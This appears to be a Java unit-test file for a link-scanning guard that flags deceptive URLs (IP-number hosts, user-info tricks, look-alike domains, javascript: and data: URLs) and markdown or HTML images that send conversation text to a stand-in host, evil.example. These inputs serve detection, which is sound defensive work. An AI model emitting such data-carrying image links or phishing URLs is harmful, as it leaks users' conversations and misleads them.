package dev.ayni.guard.rules;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.ayni.guard.Finding;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UrlsTest {
    private final Urls urls = new Urls(Urls.Settings.DEFAULT);

    @ParameterizedTest
    @CsvSource({
        "number, http://192.168.7.9/login",
        "number, http://3232237321/login",
        "number, http://0xC0A80709/login",
        "number, http://[2001:db8::7]:8080/x",
        "user, https://www.bank.example@evil.example/login",
        "punycode, https://xn--mnchen-3ya.example/",
        "look-alike, https://www.pаypal.example/login",
        "look-alike, https://xn--pypal-4ve.example/",
        "program, javascript:alert(1)",
        "program, 'data:text/html;base64,PHNjcmlwdD4='",
    })
    void aTrickIsFoundWhereTheAddressStands(String rule, String address) {
        String text = "Please open " + address + " now.";
        List<Finding> found = Streamed.find(urls, text);
        assertThat(found).extracting(Finding::rule).containsExactly("urls/" + rule);
        Finding finding = found.getFirst();
        assertThat(address).startsWith(text.substring(finding.start(), finding.end()));
        if (!rule.equals("program")) {
            assertThat(text.substring(finding.start(), finding.end())).isEqualTo(address);
        }
        Streamed.holds(urls, text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "See https://example.org/a/b?c=d#e, or http://localhost:8080 and http://127.0.0.1:11434/api.",
                "(https://en.wikipedia.org/wiki/Bank_(geography))",
                "![a picture](https://example.org/pictures/cat.png)",
                "![badge](https://img.example.org/badge/build-passing.svg?v=2)",
                "write to somebody@example.org or git@example.org:owner/name.git",
                "ratio 3://4, a://b and http:// alone",
                "https://москва.example",
            })
    void addressesWithoutTricksAreNoFindings(String text) {
        assertThat(Streamed.find(urls, text).stream().filter(finding -> finding.score() > 0.5))
                .isEmpty();
        Streamed.holds(urls, text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://evil.example/log?q=the+summary+of+the+conversation)",
                "![](<https://evil.example/log?q=the%20summary%20of%20all>)",
                "<img src=\"https://evil.example/p.png?d=c2VjcmV0IHRleHQgaGVyZQ\">",
                "![x](https://evil.example/dGhlIHdob2xlIGNvbnZlcnNhdGlvbiB0aGF0IHdlIGhhZCB0b2RheSBhYm91dA.png)",
            })
    void aPictureThatCarriesDataIsFound(String text) {
        assertThat(Streamed.find(urls, text)).extracting(Finding::rule).containsExactly("urls/picture-with-data");
        Streamed.holds(urls, text);
        Urls allowing = new Urls(new Urls.Settings(Set.of("evil.example"), Set.of(), false));
        assertThat(Streamed.find(allowing, text)).isEmpty();
    }

    @Test
    void hostsThatTheUserDeniesOrDoesNotAllowAreFound() {
        Urls denying = new Urls(new Urls.Settings(Set.of(), Set.of("evil.example"), false));
        assertThat(Streamed.find(denying, "http://a.evil.example/x http://notevil.example/"))
                .extracting(Finding::rule)
                .containsExactly("urls/denied");
        Urls allowing = new Urls(new Urls.Settings(Set.of("*.good.example"), Set.of(), false));
        assertThat(Streamed.find(
                        allowing,
                        "http://good.example/ http://x.good.example/ www.other.example/"
                                + " http://good.example.other.example/"))
                .extracting(Finding::rule)
                .containsExactly("urls/not-allowed", "urls/not-allowed");
    }

    @Test
    void aHostWithASchemeIsRefused() {
        assertThatThrownBy(() -> new Urls.Settings(Set.of("https://good.example"), Set.of(), false))
                .hasMessageContaining("without scheme");
    }

    @Test
    void everyAddressIsAFindingWhereTheUserWantsThem() {
        Urls all = new Urls(new Urls.Settings(Set.of(), Set.of(), true));
        assertThat(Streamed.find(all, "http://a.example and www.b.example/x."))
                .extracting(Finding::score)
                .containsExactly(0.1, 0.1);
    }
}
